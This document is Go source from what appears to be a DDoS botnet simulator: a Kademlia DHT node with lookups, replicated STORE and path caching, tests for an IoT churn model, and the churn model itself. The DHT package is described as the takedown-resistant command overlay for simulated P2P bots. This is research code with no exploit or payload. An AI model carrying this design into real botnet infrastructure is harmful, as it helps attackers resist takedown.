	n.refreshTicker.Source = "dht.refresh"
	n.refreshTicker.Start()
	return nil
}

// Close detaches the node from the overlay.
func (n *Node) Close() {
	if n.refreshTicker != nil {
		n.refreshTicker.Stop()
	}
	if n.sock != nil {
		n.sock.Close()
	}
}

// ID reports the node's overlay identifier.
func (n *Node) ID() ID { return n.id }

// Addr reports the overlay endpoint.
func (n *Node) Addr() netip.AddrPort { return n.addr }

// TableLen reports the routing-table population.
func (n *Node) TableLen() int { return n.table.Len() }

// Local reads a locally held record.
func (n *Node) Local(key ID) (value []byte, seq uint64, ok bool) {
	r, ok := n.store[key]
	if !ok {
		return nil, 0, false
	}
	return r.value, r.seq, true
}

// StoreLocal inserts/refreshes a record locally, enforcing the
// sequence monotonicity rule (stale seq loses). Reports whether the
// record was accepted.
func (n *Node) StoreLocal(key ID, value []byte, seq uint64) bool {
	if r, ok := n.store[key]; ok {
		if seq < r.seq {
			return false
		}
		r.value = value
		r.seq = seq
		return true
	}
	n.store[key] = &record{value: value, seq: seq}
	n.StoresHeld++
	return true
}

// ---------------------------------------------------------------------
// RPC plumbing

func (n *Node) nextRPC() uint32 {
	n.rpcSeq++
	return n.rpcSeq
}

// send transmits a request and registers its continuation. Either
// onReply or onTimeout fires, exactly once.
func (n *Node) send(dst netip.AddrPort, m *Message, onReply func(*Message), onTimeout func()) {
	m.RPC = n.nextRPC()
	m.Sender = n.id
	p := &pending{onReply: onReply, onTimeout: onTimeout}
	p.timer = n.host.Sched().ScheduleSrc(n.cfg.RPCTimeout, "dht.timeout", func() {
		delete(n.pendingRPC, m.RPC)
		n.RPCsTimedOut++
		if p.onTimeout != nil {
			p.onTimeout()
		}
	})
	n.pendingRPC[m.RPC] = p
	n.RPCsSent++
	n.sock.SendTo(dst, m.Encode())
}

// reply transmits a response echoing the request's rpc id.
func (n *Node) reply(dst netip.AddrPort, req *Message, m *Message) {
	m.RPC = req.RPC
	m.Sender = n.id
	n.sock.SendTo(dst, m.Encode())
}

func (n *Node) onDatagram(src netip.AddrPort, payload []byte, _ int) {
	if !n.host.Alive() {
		return
	}
	m, err := Decode(payload)
	if err != nil {
		return
	}
	n.observe(Contact{ID: m.Sender, Addr: src})
	switch m.Type {
	case tPing:
		n.reply(src, m, &Message{Type: tPong})
	case tFindNode:
		n.reply(src, m, &Message{Type: tNodes, Contacts: n.closestFor(m.Target, m.Sender)})
	case tFindValue:
		if r, ok := n.store[m.Target]; ok {
			n.reply(src, m, &Message{Type: tValue, Key: m.Target, Seq: r.seq, Value: r.value})
			return
		}
		n.reply(src, m, &Message{Type: tNodes, Contacts: n.closestFor(m.Target, m.Sender)})
	case tStore:
		if n.StoreLocal(m.Key, m.Value, m.Seq) && n.OnStore != nil {
			n.OnStore(m.Key, m.Value, m.Seq)
		}
		n.reply(src, m, &Message{Type: tStoreOK, Key: m.Key})
	case tPong, tNodes, tValue, tStoreOK:
		p, ok := n.pendingRPC[m.RPC]
		if !ok {
			return // late or forged response
		}
		delete(n.pendingRPC, m.RPC)
		n.host.Sched().Cancel(p.timer)
		if p.onReply != nil {
			p.onReply(m)
		}
	}
}

// closestFor answers a lookup request: our K closest to target,
// excluding the asker (it knows itself).
func (n *Node) closestFor(target ID, asker ID) []Contact {
	cs := n.table.Closest(target, n.cfg.K+1)
	out := cs[:0]
	for _, c := range cs {
		if c.ID != asker {
			out = append(out, c)
		}
	}
	if len(out) > n.cfg.K {
		out = out[:n.cfg.K]
	}
	return out
}

// observe feeds table maintenance with every peer we hear from,
// running the LRU ping/evict policy when a bucket is full.
func (n *Node) observe(c Contact) {
	if n.OnContact != nil {
		n.OnContact(c)
	}
	res, oldest := n.table.Seen(c)
	if res != SeenFull {
		return
	}
	idx := BucketIndex(n.id, c.ID)
	if n.evicting[idx] {
		return // one eviction probe per bucket at a time
	}
	n.evicting[idx] = true
	newcomer := c
	n.send(oldest.Addr, &Message{Type: tPing},
		func(*Message) {
			// The oldie answered: it stays, the newcomer is dropped
			// (and its traffic will offer it again soon enough).
			delete(n.evicting, idx)
		},
		func() {
			delete(n.evicting, idx)
			n.table.Evict(oldest.ID, newcomer)
		})
}

// ---------------------------------------------------------------------
// Iterative lookup

// lookupResult is what a finished lookup hands its continuation.
type lookupResult struct {
	// Closest holds the closest responsive contacts found (<= K).
	Closest []Contact
	// Found/Value/Seq carry a record when a FIND_VALUE hit.
	Found bool
	Value []byte
	Seq   uint64
	// CacheTo is the closest responsive node that did NOT hold the
	// value — the path-caching target.
	CacheTo  Contact
	HasCache bool
}

const (
	lsCandidate = iota
	lsInflight
	lsDone
	lsFailed
)

type lookupEntry struct {
	c     Contact
	state int
}

// lookup is one iterative FIND_NODE/FIND_VALUE execution: query the
// alpha closest unqueried candidates, merge every reply's contacts
// into a distance-sorted shortlist, and stop when the K closest known
// entries have all answered (or everything failed).
type lookup struct {
	n         *Node
	target    ID
	wantValue bool
	entries   []*lookupEntry
	inflight  int
	finished  bool
	onDone    func(lookupResult)
}

func (n *Node) newLookup(target ID, wantValue bool, seed []Contact, onDone func(lookupResult)) {
	l := &lookup{n: n, target: target, wantValue: wantValue, onDone: onDone}
	for _, c := range seed {
		l.add(c)
	}
	for _, c := range n.table.Closest(target, n.cfg.K) {
		l.add(c)
	}
	l.step()
}

// add inserts a contact into the shortlist unless present, keeping the
// list sorted by distance (ID tiebreak).
func (l *lookup) add(c Contact) {
	if c.ID == l.n.id {
		return
	}
	d := c.ID.XOR(l.target)
	pos := len(l.entries)
	for i, e := range l.entries {
		ed := e.c.ID.XOR(l.target)
		if e.c.ID == c.ID {
			return
		}
		if d.Less(ed) || (d == ed && string(c.ID[:]) < string(e.c.ID[:])) {
			pos = i
			break
		}
	}
	// The duplicate scan must cover the whole list, not just the prefix
	// before the insertion point.
	for _, e := range l.entries[pos:] {
		if e.c.ID == c.ID {
			return
		}
	}
	l.entries = append(l.entries, nil)
	copy(l.entries[pos+1:], l.entries[pos:])
	l.entries[pos] = &lookupEntry{c: c}
}

// step launches queries and checks termination.
func (l *lookup) step() {
	if l.finished {
		return
	}
	k, alpha := l.n.cfg.K, l.n.cfg.Alpha
	// Walk the K closest non-failed entries; fire candidates.
	considered, done := 0, 0
	for _, e := range l.entries {
		if e.state == lsFailed {
			continue
		}
		considered++
		if considered > k {
			break
		}
		switch e.state {
		case lsDone:
			done++
		case lsCandidate:
			if l.inflight < alpha {
				l.query(e)
			}
		}
	}
	if l.inflight == 0 {
		// No queries running and nothing launchable within the top K:
		// the closest known set is as answered as it will get.
		l.finish(lookupResult{})
	} else if done >= k {
		l.finish(lookupResult{})
	}
}

func (l *lookup) query(e *lookupEntry) {
	e.state = lsInflight
	l.inflight++
	typ := byte(tFindNode)
	if l.wantValue {
		typ = tFindValue
	}
	l.n.send(e.c.Addr, &Message{Type: typ, Target: l.target},
		func(m *Message) {
			l.inflight--
			if l.finished {
				return
			}
			e.state = lsDone
			if l.wantValue && m.Type == tValue && m.Key == l.target {
				l.finish(lookupResult{Found: true, Value: m.Value, Seq: m.Seq})
				return
			}
			for _, c := range m.Contacts {
				l.add(c)
			}
			l.step()
		},
		func() {
			l.inflight--
			if l.finished {
				return
			}
			e.state = lsFailed
			l.step()
		})
}

func (l *lookup) finish(res lookupResult) {
	if l.finished {
		return
	}
	l.finished = true
	for _, e := range l.entries {
		if e.state != lsDone {
			continue
		}
		if len(res.Closest) < l.n.cfg.K {
			res.Closest = append(res.Closest, e.c)
		}
		if !res.HasCache {
			res.CacheTo = e.c
			res.HasCache = true
		}
	}
	if l.onDone != nil {
		l.onDone(res)
	}
}

// ---------------------------------------------------------------------
// Public operations

// Join bootstraps the node into an overlay through the given seed
// endpoints (their IDs are derivable from their addresses). onDone
// reports how many contacts the table holds afterwards.
func (n *Node) Join(bootstrap []netip.AddrPort, onDone func(contacts int)) {
	seed := make([]Contact, 0, len(bootstrap))
	for _, ap := range bootstrap {
		if ap == n.addr {
			continue
		}
		seed = append(seed, Contact{ID: NodeID(ap), Addr: ap})
	}
	n.newLookup(n.id, false, seed, func(lookupResult) {
		if onDone != nil {
			onDone(n.table.Len())
		}
	})
}

// Put replicates a record to the K overlay nodes closest to key (plus
// this node's own store). onDone reports how many STOREs were
// acknowledged.
func (n *Node) Put(key ID, value []byte, seq uint64, onDone func(acked int)) {
	n.StoreLocal(key, value, seq)
	n.newLookup(key, false, nil, func(res lookupResult) {
		if len(res.Closest) == 0 {
			if onDone != nil {
				onDone(0)
			}
			return
		}
		acked, waiting := 0, len(res.Closest)
		for _, c := range res.Closest {
			n.send(c.Addr, &Message{Type: tStore, Key: key, Seq: seq, Value: value},
				func(*Message) {
					acked++
					waiting--
					if waiting == 0 && onDone != nil {
						onDone(acked)
					}
				},
				func() {
					waiting--
					if waiting == 0 && onDone != nil {
						onDone(acked)
					}
				})
		}
	})
}

// Get resolves key through the overlay. On a hit the record is also
// path-cached at the closest responsive node that lacked it, which is
// what turns every poll into epidemic replication. onDone always
// fires.
func (n *Node) Get(key ID, onDone func(value []byte, seq uint64, found bool)) {
	if r, ok := n.store[key]; ok {
		if onDone != nil {
			onDone(r.value, r.seq, true)
		}
		return
	}
	n.newLookup(key, true, nil, func(res lookupResult) {
		if res.Found {
			n.StoreLocal(key, res.Value, res.Seq)
			if res.HasCache {
				n.send(res.CacheTo.Addr,
					&Message{Type: tStore, Key: key, Seq: res.Seq, Value: res.Value}, nil, nil)
			}
		}
		if onDone != nil {
			onDone(res.Value, res.Seq, res.Found)
		}
	})
}

// refreshTick refreshes one bucket per firing: it walks the cursor to
// the next bucket index and looks up a pseudo-random ID inside it,
// which both repopulates sparse regions and detects dead contacts.
func (n *Node) refreshTick() {
	if !n.host.Alive() || n.table.Len() == 0 {
		return
	}
	rng := n.host.Sched().RNG()
	for scanned := 0; scanned < IDBits; scanned++ {
		n.refreshCursor = (n.refreshCursor + 1) % IDBits
		// Refresh buckets that could plausibly hold someone: any
		// occupied bucket, or an empty one adjacent to the occupied
		// range (cheap heuristic; exhaustively refreshing all 160 is
		// pointless at simulation scale).
		if n.table.BucketLen(n.refreshCursor) > 0 {
			target := RandomIDInBucket(n.id, n.refreshCursor, func() byte { return byte(rng.Intn(256)) })
			n.newLookup(target, false, nil, nil)
			return
		}
	}
}
