// Package dht implements a Kademlia distributed hash table over the
// simulator's UDP sockets: 160-bit XOR-metric IDs, k-buckets with LRU
// ping/evict, iterative FIND_NODE/FIND_VALUE lookups, K-closest STORE
// replication, and periodic bucket refresh. It is the command overlay
// of the P2P botnet family (internal/p2pbot): where Mirai's bots hang
// off one TCP C&C that a single takedown removes, DHT bots hold signed
// command records replicated across the overlay itself.
//
// Determinism contract: a DHT node's entire state is node-local and
// every peer interaction is a datagram over netsim, so the package is
// shard-confinement clean by construction. RPC ids come from a
// per-node counter, shortlists and bucket scans are sorted slices, and
// the only map lookups are direct-keyed — no map iteration anywhere.
package dht

import (
	"crypto/sha256"
	"encoding/hex"
	"math/bits"
	"net/netip"
)

const (
	// IDBytes is the identifier width in bytes (160 bits, as in the
	// Kademlia paper and BitTorrent's DHT).
	IDBytes = 20
	// IDBits is the identifier width in bits; also the bucket count.
	IDBits = IDBytes * 8
)

// ID is a 160-bit Kademlia identifier: a point in the XOR metric
// space, naming either a node or a record key.
type ID [IDBytes]byte

// DeriveID hashes arbitrary bytes into the ID space.
func DeriveID(data []byte) ID {
	sum := sha256.Sum256(data)
	var id ID
	copy(id[:], sum[:IDBytes])
	return id
}

// NodeID derives a node's overlay identifier from its UDP endpoint.
// IDs being a pure function of the address keeps the overlay
// deterministic and lets any peer place a known address in its
// routing table without a handshake.
func NodeID(ap netip.AddrPort) ID {
	return DeriveID([]byte(ap.String()))
}

// Key derives a record key from a human-readable name (e.g. the
// botnet's command channel).
func Key(name string) ID {
	return DeriveID([]byte(name))
}

// String renders the ID as hex, abbreviated for logs.
func (id ID) String() string {
	return hex.EncodeToString(id[:4])
}

// XOR computes the Kademlia distance between two IDs.
func (id ID) XOR(o ID) Distance {
	var d Distance
	for i := range id {
		d[i] = id[i] ^ o[i]
	}
	return d
}

// Distance is an XOR metric value, compared lexicographically
// (big-endian), exactly as the Kademlia paper orders the space.
type Distance [IDBytes]byte

// Less reports whether d is strictly closer than o.
func (d Distance) Less(o Distance) bool {
	for i := range d {
		if d[i] != o[i] {
			return d[i] < o[i]
		}
	}
	return false
}

// IsZero reports whether the distance is zero (identical IDs).
func (d Distance) IsZero() bool {
	for _, b := range d {
		if b != 0 {
			return false
		}
	}
	return true
}

// BucketIndex maps the distance between two IDs to a k-bucket index in
// [0, IDBits): the position of the highest set bit of their XOR.
// Bucket IDBits-1 holds the far half of the space; bucket 0 holds the
// single ID differing only in the last bit. Returns -1 for identical
// IDs, which never occupy a bucket.
func BucketIndex(a, b ID) int {
	d := a.XOR(b)
	for i, byt := range d {
		if byt != 0 {
			return IDBits - 1 - (i*8 + bits.LeadingZeros8(byt))
		}
	}
	return -1
}

// RandomIDInBucket builds an ID whose distance from self falls in
// bucket idx, using random bits from rnd for the low-order positions —
// the refresh target generator. rnd must be the caller's own
// deterministic stream.
func RandomIDInBucket(self ID, idx int, randByte func() byte) ID {
	id := self
	bit := IDBits - 1 - idx // position of the differing bit, from the top
	// Flip the bucket's defining bit.
	id[bit/8] ^= 0x80 >> (bit % 8)
	// Randomize everything below it.
	for p := bit + 1; p < IDBits; p++ {
		if p%8 == 0 && IDBits-p >= 8 {
			// Whole remaining bytes: fill at byte granularity.
			id[p/8] = randByte()
			p += 7
			continue
		}
		mask := byte(0x80 >> (p % 8))
		if randByte()&1 == 1 {
			id[p/8] |= mask
		} else {
			id[p/8] &^= mask
		}
	}
	return id
}
