package churn

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"

	"ddosim/internal/sim"
)

func TestLeavingFactor(t *testing.T) {
	cases := []struct {
		q, e, want float64
	}{
		{1, 1, 0}, // perfect link, full energy: never leaves
		{0, 0, 1}, // dead link, empty battery: maximal factor
		{0.5, 0.5, 0.25},
		{0.2, 0.6, 0.32},
	}
	for _, c := range cases {
		got := Host{Q: c.q, E: c.e}.LeavingFactor()
		if math.Abs(got-c.want) > 1e-12 {
			t.Errorf("L(q=%v,e=%v) = %v, want %v", c.q, c.e, got, c.want)
		}
	}
}

func TestLeavingProbabilityEq1(t *testing.T) {
	// Eq. 1 with the Fan et al. coefficients: piecewise by L.
	cases := []struct {
		l, want float64
	}{
		{0.2, 0.16 * 0.2}, // L <= 0.4 -> phi1
		{0.4, 0.16 * 0.4}, // boundary belongs to first branch
		{0.5, 0.08 * 0.5}, // 0.4 < L <= 0.7 -> phi2
		{0.7, 0.08 * 0.7}, // boundary belongs to second branch
		{0.9, 0.04 * 0.9}, // L > 0.7 -> phi3
	}
	for _, c := range cases {
		// Construct a host with the desired L: q=0, e=1-L.
		h := Host{Q: 0, E: 1 - c.l}
		got := h.LeavingProbability(FanCoefficients)
		if math.Abs(got-c.want) > 1e-12 {
			t.Errorf("l(L=%v) = %v, want %v", c.l, got, c.want)
		}
	}
}

// Property: the leaving probability is always within [0, max(phi)*1].
func TestPropertyLeavingProbabilityBounded(t *testing.T) {
	f := func(q, e float64) bool {
		h := Host{Q: math.Abs(math.Mod(q, 1)), E: math.Abs(math.Mod(e, 1))}
		p := h.LeavingProbability(FanCoefficients)
		return p >= 0 && p <= 0.16
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// Property: higher link quality and energy never increase the leaving
// factor.
func TestPropertyLeavingFactorMonotone(t *testing.T) {
	f := func(q, e, dq float64) bool {
		q = math.Abs(math.Mod(q, 1))
		e = math.Abs(math.Mod(e, 1))
		dq = math.Abs(math.Mod(dq, 1-q))
		base := Host{Q: q, E: e}.LeavingFactor()
		better := Host{Q: q + dq, E: e}.LeavingFactor()
		return better <= base+1e-12
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestParseMode(t *testing.T) {
	for s, want := range map[string]Mode{
		"none": None, "": None, "static": Static, "dynamic": Dynamic,
		"sessions": Sessions,
	} {
		got, err := ParseMode(s)
		if err != nil || got != want {
			t.Errorf("ParseMode(%q) = %v, %v", s, got, err)
		}
	}
	if _, err := ParseMode("quantum"); err == nil {
		t.Fatal("bad mode accepted")
	}
	for _, m := range []Mode{None, Static, Dynamic, Sessions, Mode(99)} {
		if m.String() == "" {
			t.Errorf("Mode(%d).String empty", m)
		}
	}
}

// fakeDevice implements Device.
type fakeDevice struct {
	name   string
	online bool
	flips  int
}

func (d *fakeDevice) Name() string { return d.name }
func (d *fakeDevice) SetOnline(up bool) {
	d.online = up
	d.flips++
}
func (d *fakeDevice) Online() bool { return d.online }

func fleet(n int) ([]Device, []*fakeDevice) {
	devs := make([]Device, n)
	raw := make([]*fakeDevice, n)
	for i := range devs {
		raw[i] = &fakeDevice{name: "dev", online: true}
		devs[i] = raw[i]
	}
	return devs, raw
}

func TestNoneModeTouchesNothing(t *testing.T) {
	sched := sim.NewScheduler(1)
	devs, raw := fleet(50)
	c := NewController(sched, None, devs)
	c.Start()
	if err := sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	for _, d := range raw {
		if d.flips != 0 {
			t.Fatal("no-churn mode flipped a device")
		}
	}
	if c.Departures() != 0 || c.Rejoins() != 0 {
		t.Fatalf("counters = %d/%d", c.Departures(), c.Rejoins())
	}
}

func TestStaticChurnLeavesOnceAndNeverRejoins(t *testing.T) {
	sched := sim.NewScheduler(7)
	devs, raw := fleet(2000)
	c := NewController(sched, Static, devs)
	c.Start()
	left := 0
	for _, d := range raw {
		if !d.online {
			left++
			if d.flips != 1 {
				t.Fatal("departed device flipped more than once")
			}
		}
	}
	if left == 0 {
		t.Fatal("static churn removed nobody in a fleet of 2000")
	}
	// Expected departures: E[l(h)] is a few percent of the fleet.
	if left > 400 {
		t.Fatalf("static churn removed %d/2000, far above the model's rates", left)
	}
	// Time passes; nothing else changes.
	if err := sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	after := 0
	for _, d := range raw {
		if !d.online {
			after++
		}
	}
	if after != left {
		t.Fatalf("membership changed after outset: %d -> %d", left, after)
	}
	if c.Rejoins() != 0 {
		t.Fatal("static churn rejoined a device")
	}
}

func TestDynamicChurnDepartsAndRejoins(t *testing.T) {
	sched := sim.NewScheduler(11)
	devs, _ := fleet(500)
	c := NewController(sched, Dynamic, devs)
	var events []bool
	c.OnChange = func(at sim.Time, dev Device, online bool) {
		events = append(events, online)
	}
	c.Start()
	if err := sched.Run(10 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if c.Departures() == 0 {
		t.Fatal("dynamic churn never departed a device")
	}
	if c.Rejoins() == 0 {
		t.Fatal("dynamic churn never rejoined a device")
	}
	if len(events) != int(c.Departures()+c.Rejoins()) {
		t.Fatalf("OnChange fired %d times, counters say %d", len(events), c.Departures()+c.Rejoins())
	}
	c.Stop()
	dAtStop, rAtStop := c.Departures(), c.Rejoins()
	if err := sched.Run(20 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if c.Departures() != dAtStop || c.Rejoins() != rAtStop {
		t.Fatal("churn continued after Stop")
	}
}

func TestDynamicChurnEpoch(t *testing.T) {
	sched := sim.NewScheduler(3)
	devs, _ := fleet(100)
	c := NewController(sched, Dynamic, devs)
	c.SetEpoch(5 * sim.Second)
	evals := 0
	c.OnChange = func(sim.Time, Device, bool) { evals++ }
	c.Start()
	if err := sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if evals == 0 {
		t.Fatal("no churn events with a 5s epoch over a minute")
	}
}

func TestSetEpochRejectsNonPositive(t *testing.T) {
	sched := sim.NewScheduler(1)
	c := NewController(sched, Dynamic, nil)
	defer func() {
		if recover() == nil {
			t.Fatal("zero epoch accepted")
		}
	}()
	c.SetEpoch(0)
}

func TestControllerDeterminism(t *testing.T) {
	run := func() (uint64, uint64) {
		sched := sim.NewScheduler(42)
		devs, _ := fleet(300)
		c := NewController(sched, Dynamic, devs)
		c.Start()
		if err := sched.Run(5 * sim.Minute); err != nil {
			t.Fatal(err)
		}
		return c.Departures(), c.Rejoins()
	}
	d1, r1 := run()
	d2, r2 := run()
	if d1 != d2 || r1 != r2 {
		t.Fatalf("same seed diverged: %d/%d vs %d/%d", d1, r1, d2, r2)
	}
}

func TestSessionsChurnAlternates(t *testing.T) {
	sched := sim.NewScheduler(5)
	devs, raw := fleet(50)
	c := NewController(sched, Sessions, devs)
	c.SetSessionMeans(60*sim.Second, 20*sim.Second)
	c.Start()
	if err := sched.Run(20 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if c.Departures() == 0 || c.Rejoins() == 0 {
		t.Fatalf("sessions churn: -%d/+%d", c.Departures(), c.Rejoins())
	}
	// Every device should have flipped at least once over 20 minutes
	// of 60s/20s sessions.
	for i, d := range raw {
		if d.flips == 0 {
			t.Fatalf("device %d never flipped", i)
		}
	}
	// Long-run online fraction approaches meanOn/(meanOn+meanOff) = 0.75.
	online := 0
	for _, d := range raw {
		if d.online {
			online++
		}
	}
	frac := float64(online) / float64(len(raw))
	if frac < 0.55 || frac > 0.95 {
		t.Fatalf("online fraction %.2f, want near 0.75", frac)
	}
	// Stop halts all future flips.
	c.Stop()
	flips := totalFlips(raw)
	if err := sched.Run(40 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if totalFlips(raw) != flips {
		t.Fatal("sessions churn continued after Stop")
	}
}

func totalFlips(devs []*fakeDevice) int {
	n := 0
	for _, d := range devs {
		n += d.flips
	}
	return n
}

func TestSessionMeansValidation(t *testing.T) {
	sched := sim.NewScheduler(1)
	c := NewController(sched, Sessions, nil)
	defer func() {
		if recover() == nil {
			t.Fatal("non-positive session mean accepted")
		}
	}()
	c.SetSessionMeans(0, sim.Second)
}

func TestRandomHostInRange(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 1000; i++ {
		h := RandomHost(rng)
		if h.Q < 0 || h.Q >= 1 || h.E < 0 || h.E >= 1 {
			t.Fatalf("host out of range: %+v", h)
		}
	}
}

func TestHostsSnapshot(t *testing.T) {
	sched := sim.NewScheduler(1)
	devs, _ := fleet(10)
	c := NewController(sched, Static, devs)
	hosts := c.Hosts()
	if len(hosts) != 10 {
		t.Fatalf("hosts = %d", len(hosts))
	}
	hosts[0] = Host{} // mutating the copy must not affect the controller
	if c.Hosts()[0] == (Host{}) && hosts[0] == c.Hosts()[0] {
		t.Fatal("Hosts returned internal slice")
	}
}
