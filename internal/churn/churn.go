// Package churn implements the IoT churn model of §IV-A, following
// Fan et al.: a device's leaving factor L(h) = (1-q(h))(1-e(h))
// combines link quality q and remaining energy e, and Eq. 1 maps it to
// a leaving probability l(h) with coefficients φ1, φ2, φ3. Two
// controller variants drive device membership: static churn (one
// departure draw at the outset, no rejoining) and dynamic churn
// (re-evaluation every epoch, with departures and rejoins).
package churn

import (
	"fmt"
	"math/rand"

	"ddosim/internal/obs"
	"ddosim/internal/sim"
)

// Mode selects the churn variant.
type Mode uint8

// Churn modes.
const (
	// None keeps every device online for the whole run.
	None Mode = iota + 1
	// Static draws departures once at the simulation outset; departed
	// devices never rejoin.
	Static
	// Dynamic re-estimates the leaving probability every epoch,
	// allowing intermittent departures and rejoins.
	Dynamic
	// Sessions is an alternative model from the P2P/IoT literature
	// (not in the paper, provided for comparison): each device
	// alternates independent exponentially-distributed online and
	// offline sessions.
	Sessions
)

// String implements fmt.Stringer.
func (m Mode) String() string {
	switch m {
	case None:
		return "no churn"
	case Static:
		return "static churn"
	case Dynamic:
		return "dynamic churn"
	case Sessions:
		return "session churn"
	default:
		return fmt.Sprintf("mode(%d)", uint8(m))
	}
}

// ParseMode converts a CLI string into a Mode.
func ParseMode(s string) (Mode, error) {
	switch s {
	case "none", "no", "":
		return None, nil
	case "static":
		return Static, nil
	case "dynamic":
		return Dynamic, nil
	case "sessions":
		return Sessions, nil
	default:
		return 0, fmt.Errorf("churn: unknown mode %q (none|static|dynamic|sessions)", s)
	}
}

// Coefficients are the φ values of Eq. 1.
type Coefficients struct {
	Phi1, Phi2, Phi3 float64
}

// FanCoefficients are the values Fan et al. (and the paper) use.
var FanCoefficients = Coefficients{Phi1: 0.16, Phi2: 0.08, Phi3: 0.04}

// DefaultEpoch is the dynamic-churn re-evaluation period of §IV-A.
const DefaultEpoch = 20 * sim.Second

// Default session-churn means: IoT devices stay up for minutes and
// drop for tens of seconds.
const (
	DefaultMeanOnline  = 300 * sim.Second
	DefaultMeanOffline = 60 * sim.Second
)

// Host is one device's churn state.
type Host struct {
	// Q is link quality in [0,1]; E is remaining energy in [0,1].
	// The paper assigns both uniformly at random per device.
	Q, E float64
}

// LeavingFactor computes L(h) = (1-q)(1-e).
func (h Host) LeavingFactor() float64 { return (1 - h.Q) * (1 - h.E) }

// LeavingProbability applies Eq. 1.
func (h Host) LeavingProbability(c Coefficients) float64 {
	l := h.LeavingFactor()
	switch {
	case l <= 0.4:
		return c.Phi1 * l
	case l <= 0.7:
		return c.Phi2 * l
	default:
		return c.Phi3 * l
	}
}

// RandomHost draws a device with uniform q and e.
func RandomHost(rng *rand.Rand) Host {
	return Host{Q: rng.Float64(), E: rng.Float64()}
}

// Device is the controller's view of one Dev: the controller flips it
// offline/online through this interface.
type Device interface {
	// Name identifies the device in timelines.
	Name() string
	// SetOnline connects or disconnects the device from the network.
	SetOnline(up bool)
	// Online reports current membership.
	Online() bool
}

// Controller drives churn for a fleet of devices.
type Controller struct {
	mode    Mode
	epoch   sim.Time
	coeff   Coefficients
	sched   *sim.Scheduler
	devices []Device
	hosts   []Host
	ticker  *sim.Ticker
	stopped bool

	meanOnline  sim.Time
	meanOffline sim.Time

	// OnChange observes each membership flip (for timelines).
	OnChange func(at sim.Time, dev Device, online bool)

	departures uint64
	rejoins    uint64

	// Observability (optional; see Observe).
	trace     *obs.Tracer
	ctrDepart *obs.Counter
	ctrRejoin *obs.Counter
	epochSpan obs.SpanID
	epochOpen bool
	epochN    int
}

// NewController builds a controller over the given devices, drawing
// each device's q and e from rng.
func NewController(sched *sim.Scheduler, mode Mode, devices []Device) *Controller {
	c := &Controller{
		mode:        mode,
		epoch:       DefaultEpoch,
		coeff:       FanCoefficients,
		sched:       sched,
		devices:     make([]Device, len(devices)),
		hosts:       make([]Host, len(devices)),
		meanOnline:  DefaultMeanOnline,
		meanOffline: DefaultMeanOffline,
	}
	copy(c.devices, devices)
	for i := range c.hosts {
		c.hosts[i] = RandomHost(sched.RNG())
	}
	return c
}

// SetEpoch overrides the dynamic re-evaluation period.
func (c *Controller) SetEpoch(epoch sim.Time) {
	if epoch <= 0 {
		panic("churn: non-positive epoch")
	}
	c.epoch = epoch
}

// SetCoefficients overrides the φ values.
func (c *Controller) SetCoefficients(coeff Coefficients) { c.coeff = coeff }

// SetSessionMeans overrides the session-churn mean online and offline
// durations.
func (c *Controller) SetSessionMeans(online, offline sim.Time) {
	if online <= 0 || offline <= 0 {
		panic("churn: non-positive session means")
	}
	c.meanOnline = online
	c.meanOffline = offline
}

// Hosts exposes the drawn per-device churn parameters.
func (c *Controller) Hosts() []Host {
	out := make([]Host, len(c.hosts))
	copy(out, c.hosts)
	return out
}

// Observe attaches the observability bundle: membership flips become
// device-up/device-down trace events and counters, and each dynamic
// re-evaluation period becomes a "churn-epoch" span.
func (c *Controller) Observe(o *obs.Obs) {
	c.trace = o.Tracer()
	if reg := o.Registry(); reg != nil {
		c.ctrDepart = reg.Counter("churn_departures_total", "devices flipped offline by churn")
		c.ctrRejoin = reg.Counter("churn_rejoins_total", "devices flipped back online by churn")
	}
}

// Departures reports how many offline flips occurred.
func (c *Controller) Departures() uint64 { return c.departures }

// Rejoins reports how many online flips occurred.
func (c *Controller) Rejoins() uint64 { return c.rejoins }

// Start begins churn according to the mode. For Static it applies the
// single departure draw immediately; for Dynamic it also starts the
// epoch ticker.
func (c *Controller) Start() {
	c.stopped = false
	switch c.mode {
	case None:
		return
	case Static:
		c.evaluate(false)
	case Dynamic:
		c.rollEpoch()
		c.evaluate(true)
		c.ticker = sim.NewTicker(c.sched, c.epoch, func() {
			c.rollEpoch()
			c.evaluate(true)
		})
		c.ticker.Source = "churn.epoch"
		c.ticker.Start()
	case Sessions:
		for _, dev := range c.devices {
			c.scheduleSessionEnd(dev)
		}
	}
}

// Stop halts re-evaluation (dynamic) or session alternation.
func (c *Controller) Stop() {
	c.stopped = true
	if c.ticker != nil {
		c.ticker.Stop()
	}
	if c.epochOpen {
		c.trace.EndSpan(c.epochSpan, c.sched.Now())
		c.epochOpen = false
	}
}

// rollEpoch closes the running churn-epoch span and opens the next.
func (c *Controller) rollEpoch() {
	now := c.sched.Now()
	if c.epochOpen {
		c.trace.EndSpan(c.epochSpan, now)
	}
	c.epochN++
	c.epochSpan = c.trace.BeginSpan(now, obs.CatChurn, "churn-epoch",
		obs.KV{K: "n", V: fmt.Sprint(c.epochN)})
	c.epochOpen = c.trace != nil
}

// scheduleSessionEnd arms the next flip for one device under the
// Sessions model.
func (c *Controller) scheduleSessionEnd(dev Device) {
	mean := c.meanOnline
	if !dev.Online() {
		mean = c.meanOffline
	}
	d := sim.Time(c.sched.RNG().ExpFloat64() * float64(mean))
	if d < sim.Millisecond {
		d = sim.Millisecond
	}
	c.sched.ScheduleSrc(d, "churn.session", func() {
		if c.stopped {
			return
		}
		online := !dev.Online()
		c.sched.Barrier(func() { dev.SetOnline(online) })
		if online {
			c.rejoins++
		} else {
			c.departures++
		}
		c.notify(dev, online)
		c.scheduleSessionEnd(dev)
	})
}

// evaluate applies one churn round. With rejoin=false (static mode)
// only online->offline transitions happen. With rejoin=true, offline
// devices come back when the leaving draw does not fire — modeling
// devices that reconnect "upon condition improvement".
